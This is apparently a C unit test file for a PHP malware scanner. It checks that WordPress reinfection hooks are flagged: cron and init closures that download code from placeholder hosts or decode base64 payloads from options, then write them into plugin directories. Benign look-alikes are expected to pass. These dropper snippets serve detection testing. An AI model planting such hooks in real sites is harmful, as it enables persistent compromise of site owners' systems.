/* The PHP analysis: reinfection from WordPress hooks. A cron event or an
 * init hook, registered with a closure nothing in the file calls, that
 * restores a deleted loader from a URL (copy, wp_remote_get + fwrite) or
 * from a copy the file keeps encoded in an option (php.stored_code_drop).
 * Look-alikes: a cron job that downloads a data file, a settings cache.
 * Every snippet is written here from the technique, not taken from a
 * sample. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

static void test_hook_droppers(void **state)
{
	(void)state;
	expect("<?php wp_schedule_single_event(time() + 300, 'wpx_restore');\n"
	       "add_action('wpx_restore', function () {\n"
	       "$dst = WP_CONTENT_DIR . '/mu-plugins/0-loader.php';\n"
	       "if (!file_exists($dst)) { @mkdir(dirname($dst)); "
	       "copy('https://paste.example/raw/x', $dst); } });",
	       "php.remote_code_drop", HS_SEV_HIGH);
	expect("<?php add_action('init', function () {\n"
	       "$r = wp_remote_get('https://cdn.example.net/u.txt');\n"
	       "$fh = fopen(WP_PLUGIN_DIR . '/hello-dolly/hello.php', 'a');\n"
	       "fwrite($fh, wp_remote_retrieve_body($r)); fclose($fh); });",
	       "php.remote_code_drop", HS_SEV_HIGH);
}

/* the loader carried in the file itself, decoded and written back */
static void test_decoded_copy(void **state)
{
	(void)state;
	expect("<?php add_action('sys_core_sync', function () {\n"
	       "$dst = WPMU_PLUGIN_DIR . '/sys-core.php'; if (is_file($dst)) return;\n"
	       "$code = \"<?php\\n\" . gzinflate(base64_decode('S03OyFdQT8nMS0mtKFGvBQA='));\n"
	       "file_put_contents($dst, $code); });",
	       "php.remote_code_drop", HS_SEV_HIGH);
}

static void test_stored_copy(void **state)
{
	(void)state;
	expect("<?php add_action('wp_version_check_ext', function () {\n"
	       "$p = ABSPATH . 'wp-includes/pomo/cache.php';\n"
	       "if (!is_file($p)) file_put_contents($p, "
	       "base64_decode(get_option('_site_transient_pomo'))); });\n"
	       "if (!wp_next_scheduled('wp_version_check_ext')) wp_schedule_event(time(), "
	       "'hourly', 'wp_version_check_ext');",
	       "php.stored_code_drop", HS_SEV_HIGH);
	expect("<?php $p = ABSPATH . 'wp-includes/class-wp-x.php';\n"
	       "file_put_contents($p, gzinflate(base64_decode(get_transient('wpx_b'))));",
	       "php.stored_code_drop", HS_SEV_HIGH);
}

static void test_look_alikes(void **state)
{
	(void)state;
	quiet("<?php add_action('my_plugin_daily', function () {\n"
	      "$r = wp_remote_get('https://api.example.com/v1/rates.json');\n"
	      "if (!is_wp_error($r)) file_put_contents(WP_CONTENT_DIR . '/uploads/rates.json', "
	      "wp_remote_retrieve_body($r)); });");
	/* settings kept encoded, written as data, not as a script */
	quiet("<?php add_action('save_cache', function () {\n"
	      "file_put_contents(WP_CONTENT_DIR . '/cache/settings.json', "
	      "base64_decode(get_option('plugin_settings_b64'))); });");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_hook_droppers),
	    cmocka_unit_test(test_decoded_copy),
	    cmocka_unit_test(test_stored_copy),
	    cmocka_unit_test(test_look_alikes),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
